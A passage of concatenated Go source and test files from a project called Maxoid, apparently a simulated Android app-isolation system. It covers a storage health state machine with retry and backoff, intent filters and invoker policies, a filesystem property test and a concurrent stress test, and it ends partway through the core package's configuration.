// contents agree. This is a model-based property test of the whole API.
func TestPropRandomOps(t *testing.T) {
	const ops = 2000
	r := rand.New(rand.NewSource(42))
	f := New()
	model := make(map[string][]byte)

	for i := 0; i < ops; i++ {
		name := randPath(r) + fmt.Sprintf("/f%d", r.Intn(6))
		switch r.Intn(4) {
		case 0: // write
			data := make([]byte, r.Intn(64))
			r.Read(data)
			if err := f.MkdirAll(Root, path.Dir(name), 0o755); err != nil {
				t.Fatalf("op %d MkdirAll(%s): %v", i, name, err)
			}
			if err := WriteFile(f, Root, name, data, 0o644); err != nil {
				t.Fatalf("op %d WriteFile(%s): %v", i, name, err)
			}
			model[name] = data
		case 1: // append
			if _, ok := model[name]; !ok {
				continue
			}
			extra := make([]byte, r.Intn(16))
			r.Read(extra)
			if err := AppendFile(f, Root, name, extra, 0o644); err != nil {
				t.Fatalf("op %d AppendFile(%s): %v", i, name, err)
			}
			model[name] = append(model[name], extra...)
		case 2: // remove
			if _, ok := model[name]; !ok {
				continue
			}
			if err := f.Remove(Root, name); err != nil {
				t.Fatalf("op %d Remove(%s): %v", i, name, err)
			}
			delete(model, name)
		case 3: // read + verify
			want, ok := model[name]
			got, err := ReadFile(f, Root, name)
			if ok {
				if err != nil || !bytes.Equal(got, want) {
					t.Fatalf("op %d Read(%s) = %v, %v; want %v", i, name, got, err, want)
				}
			} else if err == nil {
				t.Fatalf("op %d Read(%s) succeeded on deleted/missing file", i, name)
			}
		}
	}

	// Final sweep: every model file must be present with exact contents.
	for name, want := range model {
		got, err := ReadFile(f, Root, name)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("final %s = %v, %v; want %v", name, got, err, want)
		}
	}
}
