// Package health is the storage health state machine for the Maxoid
// durability layer. A Tracker classifies storage errors into transient
// faults (EIO/ENOSPC-style conditions that may clear on retry) and
// permanent corruption, drives bounded retry with exponential backoff,
// and walks a per-store state machine:
//
//	healthy → degrading → read-only → poisoned
//	   ↑______________________|
//	         (Heal)
//
// healthy    all operations served.
// degrading  transient faults observed; writes are being retried.
// read-only  retries exhausted: reads and volatile operations keep
//            serving, durable writes are rejected with ErrReadOnly
//            until the store heals.
// poisoned   permanent corruption: the store is fail-stop (terminal).
//
// The state machine is monotone except for Heal: any state except
// poisoned can return to healthy once faults clear, and nothing leaves
// poisoned. State reads are a single atomic load so hot paths can gate
// on health for free.
package health

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"maxoid/internal/fault"
)

// State is a store's position in the health state machine.
type State int32

const (
	// Healthy: all operations served, no outstanding faults.
	Healthy State = iota
	// Degrading: transient faults observed recently; durable writes
	// are still accepted but are being retried with backoff.
	Degrading
	// ReadOnly: transient faults persisted past the retry budget.
	// Reads and volatile operations keep serving; durable writes are
	// rejected with ErrReadOnly until the store heals.
	ReadOnly
	// Poisoned: permanent corruption detected. Terminal; the store is
	// fail-stop and every durable operation returns its broken error.
	Poisoned
)

func (s State) String() string {
	switch s {
	case Healthy:
		return "healthy"
	case Degrading:
		return "degrading"
	case ReadOnly:
		return "read-only"
	case Poisoned:
		return "poisoned"
	default:
		return fmt.Sprintf("state(%d)", int32(s))
	}
}

// ErrReadOnly is returned for durable writes rejected while a store is
// in the ReadOnly state. It is strictly a *gate* error: an operation
// failing with ErrReadOnly performed no mutation at all — neither in
// memory nor on storage — so callers (binder retry, AMS admission) can
// treat it as retryable and re-issue the operation once the store
// heals.
var ErrReadOnly = errors.New("health: store is read-only")

// Class is the classification of a storage error.
type Class int

const (
	// ClassNone: no error.
	ClassNone Class = iota
	// ClassTransient: the fault may clear on retry (EIO, ENOSPC,
	// injected fault.ErrTransient, ...). The operation performed no
	// durable work.
	ClassTransient
	// ClassPermanent: corruption or an unclassified failure; retrying
	// cannot help and the store must be poisoned.
	ClassPermanent
)

func (c Class) String() string {
	switch c {
	case ClassNone:
		return "none"
	case ClassTransient:
		return "transient"
	case ClassPermanent:
		return "permanent"
	default:
		return fmt.Sprintf("class(%d)", int(c))
	}
}

// transientErrnos are the syscall errors treated as retryable storage
// faults. EIO and ENOSPC are the canonical "disk had a moment" errors;
// the rest are resource-pressure conditions that clear on their own.
var transientErrnos = []syscall.Errno{
	syscall.EIO,
	syscall.ENOSPC,
	syscall.EDQUOT,
	syscall.EAGAIN,
	syscall.EINTR,
	syscall.ETIMEDOUT,
	syscall.EBUSY,
}

// Classify maps a storage error to its health class. Injected
// transient faults (fault.ErrTransient) and EIO/ENOSPC-style syscall
// errors are transient; everything else — torn frames, checksum
// mismatches, other injected faults — is permanent.
func Classify(err error) Class {
	if err == nil {
		return ClassNone
	}
	if errors.Is(err, fault.ErrTransient) {
		return ClassTransient
	}
	for _, e := range transientErrnos {
		if errors.Is(err, e) {
			return ClassTransient
		}
	}
	return ClassPermanent
}

// Options configures a Tracker.
type Options struct {
	// MaxRetries bounds how many times a transiently-failing operation
	// is re-attempted before the store drops to ReadOnly. 0 means the
	// default (3).
	MaxRetries int
	// RetryBackoff is the initial sleep between retries; it doubles on
	// every attempt. 0 means the default (1ms).
	RetryBackoff time.Duration
	// OnTransition, if set, is called (outside the tracker lock) after
	// every state change with the old and new states.
	OnTransition func(from, to State)
	// OnRetry, if set, is called before each retry sleep with the
	// 1-based attempt number and the error that caused it. Used to
	// count retries in metrics.
	OnRetry func(attempt int, err error)
	// Sleep replaces time.Sleep for backoff; tests and the chaos
	// engine substitute a no-op to stay fast and deterministic.
	Sleep func(time.Duration)
}

// Tracker is one store's health state machine. All methods are safe
// for concurrent use; State is a single atomic load.
type Tracker struct {
	opts Options

	mu     sync.Mutex   // serializes transitions and guards broken
	st     atomic.Int32 // current State; lock-free reads
	broken error        // the poisoning error, set once, never cleared
}

// NewTracker builds a Tracker in the Healthy state.
func NewTracker(opts Options) *Tracker {
	if opts.MaxRetries <= 0 {
		opts.MaxRetries = 3
	}
	if opts.RetryBackoff <= 0 {
		opts.RetryBackoff = time.Millisecond
	}
	if opts.Sleep == nil {
		opts.Sleep = time.Sleep
	}
	return &Tracker{opts: opts}
}

// State returns the current health state (one atomic load).
func (t *Tracker) State() State {
	return State(t.st.Load())
}

// Err returns the poisoning error when the tracker is Poisoned, or
// ErrReadOnly when it is ReadOnly, and nil otherwise. It is the error
// a gated durable write should surface.
func (t *Tracker) Err() error {
	switch t.State() {
	case Poisoned:
		t.mu.Lock()
		defer t.mu.Unlock()
		return t.broken
	case ReadOnly:
		return ErrReadOnly
	default:
		return nil
	}
}

// Writable reports whether durable writes are currently accepted.
func (t *Tracker) Writable() bool {
	s := t.State()
	return s == Healthy || s == Degrading
}

// transition moves the state machine, enforcing that nothing leaves
// Poisoned. Returns the states for the OnTransition hook, which the
// caller fires after dropping the lock.
func (t *Tracker) transition(to State, broken error) (from State, changed bool) {
	t.mu.Lock()
	from = State(t.st.Load())
	if from == Poisoned || from == to {
		t.mu.Unlock()
		return from, false
	}
	if to == Poisoned && t.broken == nil {
		t.broken = broken
	}
	t.st.Store(int32(to))
	t.mu.Unlock()
	return from, true
}

func (t *Tracker) fireTransition(from, to State) {
	if t.opts.OnTransition != nil {
		t.opts.OnTransition(from, to)
	}
}

// Degrade records an observed transient fault: Healthy becomes
// Degrading. ReadOnly and Poisoned are unchanged.
func (t *Tracker) Degrade() {
	if t.State() != Healthy {
		return
	}
	if from, ok := t.transition(Degrading, nil); ok {
		t.fireTransition(from, Degrading)
	}
}

// MarkReadOnly drops the store to ReadOnly (retries exhausted).
// Poisoned is unchanged.
func (t *Tracker) MarkReadOnly() {
	if from, ok := t.transition(ReadOnly, nil); ok {
		t.fireTransition(from, ReadOnly)
	}
}

// Poison marks permanent corruption with the causing error. Terminal:
// the first poisoning error wins and no later transition leaves it.
func (t *Tracker) Poison(err error) {
	if from, ok := t.transition(Poisoned, err); ok {
		t.fireTransition(from, Poisoned)
	}
}

// Heal restores Healthy from Degrading or ReadOnly after faults clear
// and any recovery work succeeded. Poisoned stores cannot heal.
// Returns whether the store is Healthy afterwards.
func (t *Tracker) Heal() bool {
	if t.State() == Poisoned {
		return false
	}
	if from, ok := t.transition(Healthy, nil); ok {
		t.fireTransition(from, Healthy)
	}
	return t.State() == Healthy
}

// ReportSuccess records a durably-completed write: a Degrading store
// returns to Healthy (the fault burst cleared on its own). ReadOnly is
// NOT auto-healed here — leaving ReadOnly requires an explicit Heal
// after recovery work (re-syncing memory with the log), because writes
// were rejected while read-only and the caller must reconcile first.
func (t *Tracker) ReportSuccess() {
	if t.State() != Degrading {
		return
	}
	if from, ok := t.transition(Healthy, nil); ok {
		t.fireTransition(from, Healthy)
	}
}

// Run executes op under the tracker's retry policy. Transient errors
// are retried up to MaxRetries times with exponential backoff, moving
// the store to Degrading; on exhaustion the store drops to ReadOnly
// and the *last transient error* is returned (NOT ErrReadOnly: the
// caller may have mutated in-memory state before attempting
// durability, so this failure is not a clean gate rejection).
// Permanent errors are returned immediately without retry; the caller
// is expected to poison. A nil result reports success.
func (t *Tracker) Run(op func() error) error {
	backoff := t.opts.RetryBackoff
	var err error
	for attempt := 0; ; attempt++ {
		err = op()
		switch Classify(err) {
		case ClassNone:
			t.ReportSuccess()
			return nil
		case ClassPermanent:
			return err
		}
		// Transient: degrade and maybe retry.
		t.Degrade()
		if attempt >= t.opts.MaxRetries {
			t.MarkReadOnly()
			return err
		}
		if t.opts.OnRetry != nil {
			t.opts.OnRetry(attempt+1, err)
		}
		t.opts.Sleep(backoff)
		backoff *= 2
	}
}
