package health

import (
	"errors"
	"fmt"
	"syscall"
	"testing"
	"time"

	"maxoid/internal/fault"
)

func noSleep(time.Duration) {}

func TestClassify(t *testing.T) {
	cases := []struct {
		name string
		err  error
		want Class
	}{
		{"nil", nil, ClassNone},
		{"transient injected", fault.ErrTransient, ClassTransient},
		{"wrapped transient", fmt.Errorf("append: %w", fault.ErrTransient), ClassTransient},
		{"eio", syscall.EIO, ClassTransient},
		{"enospc", fmt.Errorf("write: %w", syscall.ENOSPC), ClassTransient},
		{"edquot", syscall.EDQUOT, ClassTransient},
		{"eagain", syscall.EAGAIN, ClassTransient},
		{"plain injected", fault.ErrInjected, ClassPermanent},
		{"corruption", errors.New("wal: bad frame CRC"), ClassPermanent},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Classify(tc.err); got != tc.want {
				t.Fatalf("Classify(%v) = %v, want %v", tc.err, got, tc.want)
			}
		})
	}
}

func TestStateString(t *testing.T) {
	for s, want := range map[State]string{
		Healthy:   "healthy",
		Degrading: "degrading",
		ReadOnly:  "read-only",
		Poisoned:  "poisoned",
		State(9):  "state(9)",
	} {
		if got := s.String(); got != want {
			t.Errorf("State(%d).String() = %q, want %q", s, got, want)
		}
	}
}

func TestTrackerTransitions(t *testing.T) {
	var log []string
	tr := NewTracker(Options{
		Sleep: noSleep,
		OnTransition: func(from, to State) {
			log = append(log, fmt.Sprintf("%v->%v", from, to))
		},
	})
	if tr.State() != Healthy || !tr.Writable() || tr.Err() != nil {
		t.Fatalf("fresh tracker: state=%v writable=%v err=%v", tr.State(), tr.Writable(), tr.Err())
	}

	tr.Degrade()
	if tr.State() != Degrading || !tr.Writable() {
		t.Fatalf("after Degrade: state=%v writable=%v", tr.State(), tr.Writable())
	}
	tr.Degrade() // idempotent only from Healthy; no duplicate transition
	tr.MarkReadOnly()
	if tr.State() != ReadOnly || tr.Writable() {
		t.Fatalf("after MarkReadOnly: state=%v writable=%v", tr.State(), tr.Writable())
	}
	if !errors.Is(tr.Err(), ErrReadOnly) {
		t.Fatalf("ReadOnly Err() = %v, want ErrReadOnly", tr.Err())
	}
	// ReportSuccess must NOT auto-heal read-only.
	tr.ReportSuccess()
	if tr.State() != ReadOnly {
		t.Fatalf("ReportSuccess left ReadOnly: state=%v", tr.State())
	}
	if !tr.Heal() || tr.State() != Healthy {
		t.Fatalf("Heal from ReadOnly failed: state=%v", tr.State())
	}

	want := []string{"healthy->degrading", "degrading->read-only", "read-only->healthy"}
	if fmt.Sprint(log) != fmt.Sprint(want) {
		t.Fatalf("transition log = %v, want %v", log, want)
	}
}

func TestTrackerDegradingHealsOnSuccess(t *testing.T) {
	tr := NewTracker(Options{Sleep: noSleep})
	tr.Degrade()
	tr.ReportSuccess()
	if tr.State() != Healthy {
		t.Fatalf("ReportSuccess from Degrading: state=%v, want Healthy", tr.State())
	}
}

func TestTrackerPoisonTerminal(t *testing.T) {
	tr := NewTracker(Options{Sleep: noSleep})
	boom := errors.New("bad frame")
	tr.Poison(boom)
	if tr.State() != Poisoned || tr.Writable() {
		t.Fatalf("after Poison: state=%v writable=%v", tr.State(), tr.Writable())
	}
	if !errors.Is(tr.Err(), boom) {
		t.Fatalf("Poisoned Err() = %v, want %v", tr.Err(), boom)
	}
	// Nothing leaves poisoned.
	tr.Degrade()
	tr.MarkReadOnly()
	tr.ReportSuccess()
	if tr.Heal() {
		t.Fatal("Heal succeeded on a poisoned tracker")
	}
	if tr.State() != Poisoned {
		t.Fatalf("state left Poisoned: %v", tr.State())
	}
	// First poisoning error wins.
	tr.Poison(errors.New("other"))
	if !errors.Is(tr.Err(), boom) {
		t.Fatalf("second Poison replaced error: %v", tr.Err())
	}
}

func TestRunSucceedsFirstTry(t *testing.T) {
	tr := NewTracker(Options{Sleep: noSleep})
	calls := 0
	if err := tr.Run(func() error { calls++; return nil }); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if calls != 1 || tr.State() != Healthy {
		t.Fatalf("calls=%d state=%v", calls, tr.State())
	}
}

func TestRunRetriesTransientThenSucceeds(t *testing.T) {
	var retries []int
	var slept []time.Duration
	tr := NewTracker(Options{
		MaxRetries:   3,
		RetryBackoff: time.Millisecond,
		Sleep:        func(d time.Duration) { slept = append(slept, d) },
		OnRetry:      func(n int, err error) { retries = append(retries, n) },
	})
	calls := 0
	err := tr.Run(func() error {
		calls++
		if calls < 3 {
			return fault.ErrTransient
		}
		return nil
	})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if calls != 3 {
		t.Fatalf("calls = %d, want 3", calls)
	}
	// Success after retry heals the transient degradation.
	if tr.State() != Healthy {
		t.Fatalf("state = %v, want Healthy", tr.State())
	}
	if fmt.Sprint(retries) != "[1 2]" {
		t.Fatalf("retries = %v, want [1 2]", retries)
	}
	// Exponential backoff: 1ms then 2ms.
	if fmt.Sprint(slept) != "[1ms 2ms]" {
		t.Fatalf("slept = %v, want [1ms 2ms]", slept)
	}
}

func TestRunExhaustionGoesReadOnly(t *testing.T) {
	tr := NewTracker(Options{MaxRetries: 2, Sleep: noSleep})
	calls := 0
	inner := fmt.Errorf("fsync: %w", fault.ErrTransient)
	err := tr.Run(func() error { calls++; return inner })
	// 1 initial attempt + 2 retries.
	if calls != 3 {
		t.Fatalf("calls = %d, want 3", calls)
	}
	if tr.State() != ReadOnly {
		t.Fatalf("state = %v, want ReadOnly", tr.State())
	}
	// The LAST TRANSIENT error comes back, not ErrReadOnly: the caller
	// may have mutated memory before attempting durability, so this is
	// not a clean gate rejection.
	if !errors.Is(err, fault.ErrTransient) || errors.Is(err, ErrReadOnly) {
		t.Fatalf("Run returned %v, want the transient error and not ErrReadOnly", err)
	}
}

func TestRunPermanentNoRetry(t *testing.T) {
	tr := NewTracker(Options{Sleep: noSleep})
	boom := errors.New("checksum mismatch")
	calls := 0
	err := tr.Run(func() error { calls++; return boom })
	if calls != 1 {
		t.Fatalf("permanent error retried: calls = %d", calls)
	}
	if !errors.Is(err, boom) {
		t.Fatalf("Run = %v, want %v", err, boom)
	}
	// Run does not poison itself; that is the caller's decision.
	if tr.State() != Healthy {
		t.Fatalf("state = %v, want Healthy", tr.State())
	}
}

func TestConcurrentStateReads(t *testing.T) {
	tr := NewTracker(Options{Sleep: noSleep})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 1000; i++ {
			tr.Degrade()
			tr.ReportSuccess()
		}
		tr.MarkReadOnly()
	}()
	for {
		s := tr.State()
		if s == ReadOnly {
			break
		}
		if s != Healthy && s != Degrading {
			t.Fatalf("unexpected state %v", s)
		}
	}
	<-done
}
