package intent

import "testing"

func TestFilterMatching(t *testing.T) {
	cases := []struct {
		name   string
		filter Filter
		in     Intent
		want   bool
	}{
		{
			name:   "action match",
			filter: Filter{Actions: []string{ActionView}},
			in:     Intent{Action: ActionView, Data: "/sdcard/a.pdf"},
			want:   true,
		},
		{
			name:   "action mismatch",
			filter: Filter{Actions: []string{ActionView}},
			in:     Intent{Action: ActionEdit, Data: "/sdcard/a.pdf"},
			want:   false,
		},
		{
			name:   "empty filter matches everything",
			filter: Filter{},
			in:     Intent{Action: ActionSend},
			want:   true,
		},
		{
			name:   "scheme file from bare path",
			filter: Filter{Schemes: []string{"file"}},
			in:     Intent{Action: ActionView, Data: "/sdcard/doc.txt"},
			want:   true,
		},
		{
			name:   "scheme content",
			filter: Filter{Schemes: []string{"content"}},
			in:     Intent{Action: ActionView, Data: "content://media/files/3"},
			want:   true,
		},
		{
			name:   "scheme mismatch",
			filter: Filter{Schemes: []string{"content"}},
			in:     Intent{Action: ActionView, Data: "/sdcard/doc.txt"},
			want:   false,
		},
		{
			name:   "suffix match case-insensitive",
			filter: Filter{Suffixes: []string{".PDF"}},
			in:     Intent{Action: ActionView, Data: "/sdcard/report.pdf"},
			want:   true,
		},
		{
			name:   "suffix mismatch",
			filter: Filter{Suffixes: []string{".pdf"}},
			in:     Intent{Action: ActionView, Data: "/sdcard/a.jpg"},
			want:   false,
		},
		{
			name:   "combined action+suffix",
			filter: Filter{Actions: []string{ActionView}, Suffixes: []string{".pdf", ".doc"}},
			in:     Intent{Action: ActionView, Data: "/x/y.doc"},
			want:   true,
		},
	}
	for _, tc := range cases {
		if got := tc.filter.Matches(tc.in); got != tc.want {
			t.Errorf("%s: Matches = %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestInvokerPolicyWhitelist(t *testing.T) {
	// The paper's Dropbox manifest: any VIEW intent is private.
	p := InvokerPolicy{
		Whitelist: true,
		Filters:   []Filter{{Actions: []string{ActionView}}},
	}
	if !p.Private(Intent{Action: ActionView, Data: "/sdcard/Dropbox/f.pdf"}) {
		t.Error("VIEW intent should be private under whitelist")
	}
	if p.Private(Intent{Action: ActionSend, Data: "/sdcard/x"}) {
		t.Error("SEND intent should be public under whitelist")
	}
}

func TestInvokerPolicyBlacklist(t *testing.T) {
	// Blacklist: everything private except SEND intents.
	p := InvokerPolicy{
		Whitelist: false,
		Filters:   []Filter{{Actions: []string{ActionSend}}},
	}
	if p.Private(Intent{Action: ActionSend}) {
		t.Error("blacklisted action should be public")
	}
	if !p.Private(Intent{Action: ActionView}) {
		t.Error("non-blacklisted action should be private")
	}
}

func TestZeroPolicyIsPublic(t *testing.T) {
	var p InvokerPolicy
	if p.Private(Intent{Action: ActionView}) {
		t.Error("zero policy should mark nothing private")
	}
}

func TestFlagsAndExtras(t *testing.T) {
	in := Intent{Action: ActionView, Flags: FlagDelegate | FlagGrantReadURIPermission}
	if !in.HasFlag(FlagDelegate) || !in.HasFlag(FlagGrantReadURIPermission) {
		t.Error("flags not set")
	}
	if in.HasFlag(1 << 10) {
		t.Error("unknown flag reported set")
	}
	in2 := in.WithExtra("k", "v")
	if in2.Extra("k") != "v" {
		t.Error("extra not set")
	}
	if in.Extra("k") != "" {
		t.Error("WithExtra mutated the original")
	}
}
