// Package intent models Android intents and intent filters.
//
// Intents are the inter-app invocation mechanism Maxoid mediates: an
// initiator sends an intent, Activity Manager resolves it to a target
// app, and Maxoid decides whether the invoked instance runs normally or
// as a delegate (paper §3.4, §6.1). The package also implements the
// Maxoid-manifest invoker filters — white/blacklists of intent filters
// that let an unmodified initiator mark classes of invocations private.
package intent

import "strings"

// Standard actions used by the case-study apps.
const (
	ActionView = "android.intent.action.VIEW"
	ActionEdit = "android.intent.action.EDIT"
	ActionSend = "android.intent.action.SEND"
	ActionMain = "android.intent.action.MAIN"
	ActionPick = "android.intent.action.PICK"
)

// Intent flags.
const (
	// FlagDelegate asks Activity Manager to run the invoked app as a
	// delegate of the sender (Maxoid API 2.1 in §6.1).
	FlagDelegate = 1 << iota
	// FlagGrantReadURIPermission grants the receiver one-time read
	// access to the intent's data URI (Android's per-URI permission).
	FlagGrantReadURIPermission
)

// Intent describes an invocation of an app component.
type Intent struct {
	// Action is what the sender wants done (ActionView etc.).
	Action string
	// Data is the target resource: a file path or content:// URI.
	Data string
	// Component explicitly names the target package; empty means
	// resolve by action/data against installed apps' filters.
	Component string
	// Extras carries auxiliary key/value payload.
	Extras map[string]string
	// Flags is a bitmask of Flag* values.
	Flags int
}

// HasFlag reports whether all bits in f are set.
func (in Intent) HasFlag(f int) bool { return in.Flags&f == f }

// Extra returns the named extra ("" if absent).
func (in Intent) Extra(key string) string {
	return in.Extras[key]
}

// WithExtra returns a copy of the intent with one extra added.
func (in Intent) WithExtra(key, val string) Intent {
	out := in
	out.Extras = make(map[string]string, len(in.Extras)+1)
	for k, v := range in.Extras {
		out.Extras[k] = v
	}
	out.Extras[key] = val
	return out
}

// scheme extracts the URI scheme of the intent data ("file" for bare
// paths, which is how Android treats file URIs here).
func (in Intent) scheme() string {
	if i := strings.Index(in.Data, "://"); i > 0 {
		return in.Data[:i]
	}
	if strings.HasPrefix(in.Data, "/") {
		return "file"
	}
	return ""
}

// Filter matches intents by action, data scheme, and path suffix
// (standing in for MIME types, which our simulated apps derive from
// file extensions).
type Filter struct {
	// Actions matched; empty matches any action.
	Actions []string
	// Schemes matched ("file", "content", "http"); empty matches any.
	Schemes []string
	// Suffixes matched against the data path (".pdf"); empty matches any.
	Suffixes []string
}

// Matches reports whether the filter accepts the intent.
func (f Filter) Matches(in Intent) bool {
	if len(f.Actions) > 0 && !containsFold(f.Actions, in.Action) {
		return false
	}
	if len(f.Schemes) > 0 && !containsFold(f.Schemes, in.scheme()) {
		return false
	}
	if len(f.Suffixes) > 0 {
		ok := false
		for _, s := range f.Suffixes {
			if strings.HasSuffix(strings.ToLower(in.Data), strings.ToLower(s)) {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	return true
}

func containsFold(list []string, s string) bool {
	for _, x := range list {
		if strings.EqualFold(x, s) {
			return true
		}
	}
	return false
}

// InvokerPolicy is the Maxoid-manifest filter set deciding whether an
// outgoing intent from an initiator should invoke a delegate (paper
// §6.1, API 2.2). Exactly one of Whitelist/Blacklist semantics applies:
// with Whitelist true, intents matching any filter are private; with
// Whitelist false, intents matching any filter are public and all
// others private.
type InvokerPolicy struct {
	Whitelist bool
	Filters   []Filter
}

// Private reports whether the policy marks the intent as a private
// (delegate) invocation. A zero policy marks nothing private.
func (p InvokerPolicy) Private(in Intent) bool {
	if len(p.Filters) == 0 {
		return false
	}
	matched := false
	for _, f := range p.Filters {
		if f.Matches(in) {
			matched = true
			break
		}
	}
	if p.Whitelist {
		return matched
	}
	return !matched
}
