package core

import (
	"fmt"
	"sync"
	"testing"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/netstack"
	"maxoid/internal/provider"
	"maxoid/internal/testutil"
	"maxoid/internal/vfs"
)

// TestStressConcurrentInstances hammers one booted device from 16
// concurrent instances — 8 initiators plus a delegate per initiator —
// mixing filesystem writes, User Dictionary and Downloads provider
// inserts, and intent launches. It is the fine-grained-locking gauntlet:
// run under -race it exercises the vfs crabbing, per-table SQL locks,
// sharded kernel/binder registries, and snapshot mount tables all at
// once, and it verifies no goroutine outlives System.Shutdown.
func TestStressConcurrentInstances(t *testing.T) {
	leak := testutil.LeakCheck(t)

	s := boot(t)
	srv := netstack.NewStaticFileServer()
	srv.Put("/blob", []byte("stress-payload"))
	s.Net.Register("files.example", srv)

	// Each initiator gets its own viewer app: under kill-on-conflict
	// (§6.2) a single viewer delegated to eight initiators would have
	// every new delegate start kill the previous one, and since process
	// death now closes the victim's mount namespace, the killed
	// instances could not keep hammering the device. Distinct viewers
	// keep all 16 instances alive for the whole gauntlet.
	const initiators = 8
	const iters = 40
	for i := 0; i < initiators; i++ {
		installScript(t, s, fmt.Sprintf("stress%d", i), ams.Manifest{})
		installScript(t, s, fmt.Sprintf("viewer%d", i), ams.Manifest{Filters: viewFilter()})
	}

	type instance struct {
		ctx      *ams.Context
		delegate bool
		id       int
	}
	var instances []instance
	for i := 0; i < initiators; i++ {
		actx, err := s.Launch(fmt.Sprintf("stress%d", i), intent.Intent{})
		if err != nil {
			t.Fatal(err)
		}
		seed := actx.DataDir() + "/seed.txt"
		writeAs(t, actx, seed, "seed")
		vctx, err := actx.StartActivity(intent.Intent{
			Component: fmt.Sprintf("viewer%d", i),
			Action:    intent.ActionView, Data: seed, Flags: intent.FlagDelegate,
		})
		if err != nil {
			t.Fatal(err)
		}
		instances = append(instances,
			instance{ctx: actx, id: i},
			instance{ctx: vctx, delegate: true, id: i})
	}

	var wg sync.WaitGroup
	errs := make(chan error, len(instances))
	fail := func(err error) { errs <- err }
	for _, inst := range instances {
		wg.Add(1)
		go func(inst instance) {
			defer wg.Done()
			ctx := inst.ctx
			res := ctx.Resolver()
			for n := 0; n < iters; n++ {
				// FS write + read-back. Initiators use their private data
				// dir; delegates write through their volatile external view.
				path := fmt.Sprintf("%s/s%02d-%03d.dat", ctx.DataDir(), inst.id, n)
				if inst.delegate {
					path = fmt.Sprintf("%s/s%02d-%03d.dat", layout.ExtDir, inst.id, n)
				}
				payload := fmt.Sprintf("payload-%d-%d", inst.id, n)
				if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), path, []byte(payload), 0o666); err != nil {
					fail(fmt.Errorf("inst %d write: %w", inst.id, err))
					return
				}
				got, err := vfs.ReadFile(ctx.FS(), ctx.Cred(), path)
				if err != nil || string(got) != payload {
					fail(fmt.Errorf("inst %d read-back: %q, %v", inst.id, got, err))
					return
				}
				// Provider insert (lands in the instance's view: shared
				// state for initiators, the initiator's delta for delegates).
				if _, err := res.Insert("content://user_dictionary/words",
					provider.Values{"word": fmt.Sprintf("w-%d-%d-%v", inst.id, n, inst.delegate)}); err != nil {
					fail(fmt.Errorf("inst %d dict insert: %w", inst.id, err))
					return
				}
				// Initiators also enqueue real downloads and launch fresh
				// delegate activities mid-flight.
				if !inst.delegate && n%8 == 0 {
					if _, err := res.Insert("content://downloads/my_downloads",
						provider.Values{"uri": "files.example/blob",
							"hint": fmt.Sprintf("dl-%d-%d.bin", inst.id, n)}); err != nil {
						fail(fmt.Errorf("inst %d download insert: %w", inst.id, err))
						return
					}
				}
				if !inst.delegate && n%10 == 5 {
					if _, err := ctx.StartActivity(intent.Intent{
						Component: fmt.Sprintf("viewer%d", inst.id),
						Action:    intent.ActionView,
						Data:      ctx.DataDir() + "/seed.txt",
						Flags:     intent.FlagDelegate,
					}); err != nil {
						fail(fmt.Errorf("inst %d launch: %w", inst.id, err))
						return
					}
				}
			}
		}(inst)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	// Every initiator's words survived in its own view; isolation held
	// under load.
	for i := 0; i < initiators; i++ {
		rows, err := instances[2*i].ctx.Resolver().Query(
			"content://user_dictionary/words", []string{"word"}, "", "")
		if err != nil {
			t.Fatal(err)
		}
		if len(rows.Data) < 2*iters {
			t.Errorf("initiator %d sees %d words, want >= %d", i, len(rows.Data), 2*iters)
		}
	}

	// Shutdown joins the download workers; nothing may leak past it.
	s.Shutdown()
	leak()
}
