// Package core assembles the full Maxoid system (paper Figure 3): the
// simulated device — disk, kernel, network, Binder — plus Zygote with
// the Aufs branch manager, the Maxoid-modified Activity Manager, the
// three ported system content providers, and the gated system services
// (Clipboard, Bluetooth, Telephony).
//
// It is the public entry point of the reproduction: boot a device with
// Boot, install apps (ams.App implementations) with Install, start them
// with Launch / the launcher drop targets, and manage volatile state
// with ListVolatileFiles / CommitVolatileFile / ClearVol / ClearPriv.
package core

import (
	"path"
	"sort"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/cowproxy"
	"maxoid/internal/gateway"
	"maxoid/internal/health"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/layout"
	"maxoid/internal/metrics"
	"maxoid/internal/netstack"
	"maxoid/internal/provider"
	"maxoid/internal/provider/downloads"
	"maxoid/internal/provider/media"
	"maxoid/internal/provider/userdict"
	"maxoid/internal/sqldb"
	"maxoid/internal/unionfs"
	"maxoid/internal/vfs"
	"maxoid/internal/wal"
	"maxoid/internal/zygote"
)

// Context is the app-instance context type; re-exported so facade users
// need not import the ams package.
type Context = ams.Context

// Options configure the simulated device.
type Options struct {
	// NetworkBaseRTT and NetworkPerKB set simulated network latency;
	// zero disables delays (tests). Benchmarks set realistic values.
	NetworkBaseRTT time.Duration
	NetworkPerKB   time.Duration
	// TrustedCloudHosts lists hosts delegates may reach despite the
	// network cut — the paper's §2.4 trusted-cloud extension. Leave
	// empty for the paper's base design.
	TrustedCloudHosts []string
	// Storage, when non-nil, makes device state durable: every mutation
	// of the global disk and of the system providers' databases is
	// journaled to a write-ahead log on this storage, and Boot first
	// recovers whatever state the storage already holds (see
	// internal/wal). nil boots a volatile device, the previous behavior.
	Storage wal.Storage
	// Metrics, when non-nil, receives the durable store's instruments
	// (wal.* histograms, the wal.health gauge, retry/reject counters).
	Metrics *metrics.Registry
	// ScrubInterval, when positive on a durable boot, starts the store's
	// background maintenance loop: periodic integrity scrubs while
	// serving, automatic heal attempts while read-only. Zero leaves
	// maintenance to the caller (tests and the chaos engines drive
	// ScrubOnce/Heal deterministically).
	ScrubInterval time.Duration
	// StoreTuning, when set, adjusts the wal.Config before a durable
	// open — retry budgets, backoff, the retry sleep.
	StoreTuning func(*wal.Config)
}

// Names of the provider databases inside the durable store's WAL
// streams and snapshots.
const (
	DBUserDict  = "userdict"
